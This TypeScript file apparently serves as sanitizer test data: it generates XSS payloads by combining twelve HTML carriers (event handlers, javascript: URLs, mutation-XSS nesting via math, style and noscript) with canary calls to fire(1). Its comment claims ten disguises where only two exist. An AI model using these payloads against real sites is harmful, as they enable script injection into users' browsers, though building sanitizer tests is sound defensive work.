/** What a notice might be made of to make a reader's browser do something: twelve ways in, each in ten disguises. */
const calls = ['fire(1)', 'parent.fire(1)', 'self["fire"](1)', 'top.fire(1)', '(0,fire)(1)']

const carriers: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<svg onload="${call}"><animate onbegin="${call}" attributeName=x dur=1s></svg>`,
  (call) => `<a href="javascript:${call}" autofocus onfocus="${call}" tabindex=0>x</a>`,
  (call) => `<details open ontoggle="${call}"><summary>x</summary></details>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) =>
    `<math><mtext><table><mglyph><style><img src=x onerror="${call}"></style></mglyph></table></mtext></math>`,
  (call) =>
    `<form><input autofocus onfocus="${call}"><button formaction="javascript:${call}">x</button></form>`,
  (call) => `<video><source onerror="${call}"></video><audio src=x onerror="${call}"></audio>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  (call) =>
    `<p style="animation:x" onanimationstart="${call}" onpointerenter="${call}">x</p><style>@keyframes x{}</style>`,
  (call) =>
    `<object data="javascript:${call}"></object><embed src="javascript:${call}"><base href="javascript:${call}//">`,
]

const disguises: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `<p>สวัสดี</p>${html}<p>x</p>`,
]

export const htmlPayloads: readonly string[] = carriers.flatMap((carrier) =>
  calls.flatMap((call) => disguises.map((disguise) => disguise(carrier(call)))),
)
